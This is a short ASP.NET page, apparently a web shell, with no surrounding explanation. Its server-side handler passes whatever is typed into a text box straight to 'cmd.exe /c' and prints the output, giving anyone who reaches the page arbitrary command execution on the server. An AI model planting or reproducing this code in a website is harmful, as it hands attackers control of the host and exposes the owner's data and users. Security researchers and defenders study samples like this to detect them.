<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Run_Click(object sender, EventArgs e)
{
    Process p = new Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c " + txtCmd.Text;
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    lblOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
<form runat="server"><asp:TextBox id="txtCmd" runat="server"/><asp:Button OnClick="Run_Click" runat="server"/><asp:Label id="lblOut" runat="server"/></form>
